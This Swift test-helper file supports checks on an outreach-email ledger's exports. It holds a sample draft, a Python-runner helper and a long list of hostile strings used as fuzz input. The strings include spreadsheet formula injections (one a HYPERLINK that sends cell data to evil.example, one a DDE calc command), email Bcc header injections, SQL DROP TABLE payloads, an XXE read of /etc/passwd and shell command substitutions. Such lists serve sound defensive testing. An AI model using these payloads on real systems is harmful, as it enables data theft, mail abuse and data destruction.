import Foundation
import LedgerCore
import Testing

/// An approved draft that each test changes to its needs.
func outgoing(_ id: Int64 = 12, _ change: (inout OutgoingDraft) -> Void = { _ in }) -> OutgoingDraft {
    let subject = "Filling line in Leiden"
    let body = "Hi Ana,\n\nWould it help to compare notes?\n\nKim"
    var draft = OutgoingDraft(
        id: DraftID(id), runID: RunID(3), runDate: CalendarDay(daysSinceEpoch: 20_529),
        clock: Timestamp(millisecondsSinceEpoch: 1_773_738_000_000), company: "Northfield Devices Inc.",
        domain: "northfield.example", contactName: "Ana Ruiz", contactTitle: "Quality Director",
        email: "ana.ruiz@northfield.example", persona: "quality", subject: subject, body: body,
        contentSHA256: Digest.sha256(subject + "\n\n" + body), confidenceMode: "HIGH",
        sources: [
            .init(
                claim: "Northfield opened a second line", url: "https://news.example/northfield/0",
                asOf: CalendarDay(daysSinceEpoch: 20_493))
        ],
        standing: .approved, reviewer: "kim",
        reviewedAt: Timestamp(millisecondsSinceEpoch: 1_773_742_500_123))
    change(&draft)
    return draft
}

/// Strings that other programs have stumbled over, several of them from the Big List of Naughty Strings (MIT licence).
let hostileTexts =
    naughtyTexts + [
        "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u{feff}=1+1", "\u{200b}=1+1",
        "＝1+1", "＋1", "－1", "＠SUM(1)", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\"=1+1\"", "'=1+1",
        "Foo;=1+1;x", "Foo;\"=1+1;x", "Foo\t=1+1\tx", "Hi,\n\"=1+1\n; @x",
        "Bcc: everyone@evil.example", "x\r\nBcc: everyone@evil.example", "x\nBcc: everyone@evil.example", "x\rBcc: a@b.example",
        "x\u{2028}Bcc: a@b.example", "x\u{85}Bcc: a@b.example", "x\u{0b}Bcc: a@b.example", "x\u{0}Bcc: a@b.example", "x%0d%0aBcc: a@b.example",
        "=?UTF-8?B?QmNj?=", "=?utf-8?q?=0D=0ABcc:_a@b.example?=", "\" <evil@evil.example>, \"", "Evil <evil@evil.example>",
        "a,b;c:d<e>f@g(h)[i]\\", "(comment) name", "\"", "\"\"", "\\\"", "\\", "a\"b,c\"d", "\",\"", "\"\u{301},x", ",\u{301}",
        "./;'[]\\-=", "><script>alert(22);</script x=", "1;DROP TABLE users", "1'; DROP TABLE users-- 1",
        "'; EXEC sp_MSForEachTable 'DROP TABLE ?'; --", "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい", "社會科學院語學研究所",
        "울란바토르", "𠜎𠜱𠝹𠱓", "ﬁ", "الكل في المجمو عة", "ثم نفس سقطت وبالتحديد،", "הָיְתָה test", "👾 🙇 💁 🙅", "👨‍👩‍👧‍👦", "🏳️‍🌈",
        "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "\u{1b}[31mred\u{1b}[0m", "\u{fffe}", "\u{10ffff}", "e\u{301}\u{301}\u{301}",
        "```\n# out of the block\n```", "~~~", "$(touch /tmp/x)", "`touch /tmp/x`", "{{7*7}}", "../../../etc/passwd", "CON", "nul\u{0}byte",
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "Power لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗", String(repeating: "a", count: 1_200),
        String(repeating: "ü", count: 700), "a" + String(repeating: "\u{301}", count: 120), "", " ", "\u{200b}", "\t", "undefined", "NaN", "1E+02",
    ]

/// Runs a Python program that reads a file of JSON and prints what is wrong, a line each.
enum Python {
    /// - Parameter input: what the program finds as `cases`.
    static func faults(_ program: String, _ input: JSON) throws -> [String] {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ledger-export-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let (file, out) = (folder.appendingPathComponent("cases.json"), folder.appendingPathComponent("out"))
        try Data(input.serialized().utf8).write(to: file)
        try Data().write(to: out)
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        let head = "import json, sys\ncases = json.load(open(sys.argv[1], encoding='utf-8'))\n"
        process.arguments = ["python3", "-c", head + program, file.path]
        process.environment = ProcessInfo.processInfo.environment.merging(["PYTHONIOENCODING": "utf-8"]) { $1 }
        let handle = try FileHandle(forWritingTo: out)
        process.standardOutput = handle
        process.standardError = handle
        try starting.withLock { try process.run() }
        process.waitUntilExit()
        let said = String(decoding: try Data(contentsOf: out), as: UTF8.self).split(separator: "\n").map(String.init)
        return process.terminationStatus == 0 ? said : said + ["python3 ended with \(process.terminationStatus)"]
    }

    /// One at a time: Foundation's own has crashed where several threads started programs at once.
    private static let starting = NSLock()
}

/// Tells of the first few.
func expectNoFaults(_ faults: [String], sourceLocation: SourceLocation = #_sourceLocation) {
    #expect(faults.isEmpty, "\(faults.count): \(faults.prefix(12).joined(separator: "\n"))", sourceLocation: sourceLocation)
}
